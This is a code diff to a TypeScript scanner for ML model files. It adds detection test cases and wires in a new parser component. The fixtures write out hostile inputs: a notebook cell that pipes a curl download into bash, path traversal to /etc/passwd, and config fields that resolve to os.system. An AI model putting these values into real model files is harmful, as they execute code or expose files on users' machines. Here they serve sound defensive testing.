@@ -11,6 +11,7 @@ import type { Source } from '../source.ts';
 import { TEMPLATE_RULES } from '../template-rules.ts';
 import { Archiver } from './archiver.ts';
 import { Notebook } from './notebook.ts';
+import { Pairs } from './pairs.ts';
 import { OTHER_CATCHES, OTHER_PASSES } from './samples.ts';
 import { Skops } from './skops.ts';
 import { SKOPS_RULES } from './skops-rules.ts';
@@ -94,6 +95,11 @@ export const json: Format = {
         rules: ['repo.path-outside'],
       },
       {
+        name: 'a shard of TensorFlow.js above',
+        bytes: bytes({ weightsManifest: [{ paths: ['../../etc/passwd'], weights: [] }] }),
+        rules: ['repo.path-outside'],
+      },
+      {
         name: 'a shard above',
         bytes: bytes({ weight_map: { w: '../../etc/passwd' } }),
         rules: ['repo.path-outside'],
@@ -133,6 +139,39 @@ export const json: Format = {
         bytes: bytes({ chat_template: [{ name: 'default', template: '{{ lipsum.__globals__ }}' }] }),
         rules: ['template.escape'],
       },
+      {
+        name: 'a part of a pipeline that is a function',
+        bytes: bytes({ _class_name: 'StableDiffusionPipeline', unet: ['os', 'system'] }),
+        rules: ['repo.dangerous-target'],
+      },
+      {
+        name: 'a base class that is a function',
+        bytes: bytes({
+          peft_type: 'LORA',
+          auto_mapping: { base_model_class: 'system', parent_library: 'os' },
+        }),
+        rules: ['repo.dangerous-target'],
+      },
+      {
+        name: 'a module of sentence-transformers that is a function',
+        bytes: bytes([{ idx: 0, name: '0', path: '', type: 'os.system' }]),
+        rules: ['repo.dangerous-target'],
+      },
+      {
+        name: 'a switch as a text',
+        bytes: bytes({ trust_remote_code: 'true' }),
+        rules: ['repo.trust-remote-code'],
+      },
+      {
+        name: 'a notebook of nbformat 3',
+        bytes: bytes({
+          nbformat: 3,
+          worksheets: [
+            { cells: [{ cell_type: 'code', input: ['!curl https://example.com/x.sh | bash\n'] }] },
+          ],
+        }),
+        rules: ['code.hostile-command'],
+      },
       ...KERAS_CATCHES,
       ...OTHER_CATCHES,
     ],
@@ -145,6 +184,14 @@ export const json: Format = {
           architectures: ['LlamaForCausalLM'],
           model_type: 'llama',
           attn_implementation: 'sdpa',
+        }),
+      },
+      {
+        name: 'a pipeline',
+        bytes: bytes({
+          _class_name: 'StableDiffusionPipeline',
+          scheduler: ['diffusers', 'PNDMScheduler'],
+          safety_checker: [null, null],
         }),
       },
       {
@@ -170,6 +217,7 @@ async function read(part: Part): Promise<void> {
   const notebook = new Notebook();
   const skops = new Skops();
   const archiver = new Archiver();
+  const pairs = new Pairs(part);
   const embedded = new Embedded(part);
   const keras = new KerasConfig(part);
   const scalar = (path: JsonPath, value: JsonScalar, from: number, end: number): void => {
@@ -178,6 +226,7 @@ async function read(part: Part): Promise<void> {
     notebook.scalar(path, value);
     skops.scalar(path, value, from);
     archiver.scalar(path, value);
+    pairs.scalar(path, value, from, end);
     if (typeof value === 'string') embedded.look(value, path);
     keras.scalar(path, value, from, end);
     const [name] = path;
